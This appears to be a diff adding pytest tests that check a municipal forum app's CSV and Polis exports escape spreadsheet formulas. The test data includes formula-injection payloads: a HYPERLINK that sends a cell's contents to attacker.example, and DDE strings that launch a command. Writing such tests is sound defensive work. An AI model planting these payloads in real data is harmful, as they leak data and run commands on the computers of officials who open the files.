@@ -690,3 +690,143 @@ class TestTheAccessLogCannotBeCutBack:
         with pytest.raises(PermissionError):
             entries.delete()
         assert entries.count() == 2
+
+
+# --- 9. Smaller items
+
+
+@pytest.fixture
+def forum_topic(gent, family):
+    """An open topic at Gent, where Jan and Sofie (adults living there) take part."""
+    from eloket.common.actors import Actor
+    from eloket.forum import services
+
+    return services.topic_create(
+        actor=Actor.system("moderation", gent),
+        municipality=gent,
+        title={"nl": "Een plein", "en": "A square"},
+        phase="open",
+        min_age=16,
+    )
+
+
+def forum_post(topic, person, text):
+    from django.core.cache import cache
+
+    from eloket.forum import services
+    from eloket.identity.eligibility import participant_actor
+
+    cache.clear()  # the limit of five opinions per ten minutes is not what these test
+    return services.opinion_post(
+        actor=participant_actor(citizen_user(person)),
+        municipality=topic.municipality,
+        topic=topic,
+        text=text,
+    )
+
+
+FORMULAS = [
+    '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+# (An opinion loses leading white space when posted; other cells may start with it.)
+WHITE_FORMULAS = ["\t=1+1", "\r=1+1"]
+
+
+class TestSpreadsheetFormulas:
+    """A resident posted `=HYPERLINK(...)` as an opinion; the officer who opened the
+    topic's CSV export (or the Polis zip) in a spreadsheet ran it."""
+
+    def test_the_opinions_export_escapes_formulas(
+        self, client, gent, family, forum_topic, make_officer
+    ):
+        import csv
+        import io
+
+        for text in FORMULAS:
+            forum_post(forum_topic, family["Jan"], text)
+        forum_post(forum_topic, family["Sofie"], "Meer bomen - en banken")
+        officer_login_client(client, make_officer("gent.clerk", gent))
+        answer = client.get(f"/gent/backoffice/forum/{forum_topic.pk}/export")
+        assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
+        rows = list(csv.DictReader(io.StringIO(answer.content.decode())))
+        texts = [row["text"] for row in rows]
+        assert sorted(texts) == sorted(
+            ["'" + text for text in FORMULAS] + ["Meer bomen - en banken"]
+        )
+        for row in rows:
+            for cell in row.values():
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+
+    def test_the_polis_export_escapes_and_still_reads_back(self, gent, family, forum_topic):
+        import io
+        import zipfile
+
+        from eloket.common.actors import Actor
+        from eloket.forum import services
+        from eloket.forum.interchange import export_zip, import_polis_upload
+        from eloket.forum.models import Opinion
+        from eloket.identity.eligibility import participant_actor
+
+        texts = [*FORMULAS, "'=typed with a quote", "'plain quote", "gewoon"]
+        opinions = [forum_post(forum_topic, family["Jan"], text) for text in texts]
+        services.vote_cast(
+            actor=participant_actor(citizen_user(family["Sofie"])),
+            municipality=gent,
+            opinion=opinions[0],
+            value=-1,
+        )
+        data = export_zip(forum_topic)
+        with zipfile.ZipFile(io.BytesIO(data)) as archive:
+            comments = archive.read("comments.csv").decode()
+            votes = archive.read("votes.csv").decode()
+        assert "\n=HYPERLINK" not in comments and "'=HYPERLINK" in comments
+        assert "''=typed with a quote" in comments  # so that reading back strips one quote
+        assert votes.rstrip().endswith(",-1")  # a number we wrote stays a number for Polis
+        again = import_polis_upload(
+            actor=Actor.system("test", gent), municipality=gent, files={"topic.zip": data}
+        )
+        assert sorted(Opinion.objects.filter(topic=again).values_list("text", flat=True)) == sorted(
+            texts
+        )
+        assert Opinion.objects.get(topic=again, text=FORMULAS[0]).disagree == 1
+
+    def test_every_csv_is_written_through_the_one_helper(self):
+        """A new export written with csv.writer directly would escape nothing."""
+        from pathlib import Path
+
+        import eloket
+
+        root = Path(eloket.__file__).parent
+        writers = [
+            str(path.relative_to(root))
+            for path in root.rglob("*.py")
+            if "csv.writer(" in path.read_text(encoding="utf-8")
+            or "DictWriter(" in path.read_text(encoding="utf-8")
+        ]
+        assert writers == ["common/spreadsheet.py"]
+
+    def test_the_escaping_is_undone_exactly(self):
+        from eloket.common.spreadsheet import spreadsheet_escape, spreadsheet_unescape
+
+        for text in [
+            *FORMULAS,
+            *WHITE_FORMULAS,
+            "",
+            "'",
+            "''",
+            "'=",
+            "''=x",
+            "'x",
+            "x=1",
+            "-",
+            "=",
+            "a\tb",
+        ]:
+            escaped = spreadsheet_escape(text)
+            assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
+            assert spreadsheet_unescape(escaped) == text
+        assert spreadsheet_escape("\t=1") == "'\t=1"
+        assert spreadsheet_escape(-1) == -1 and spreadsheet_escape(None) is None
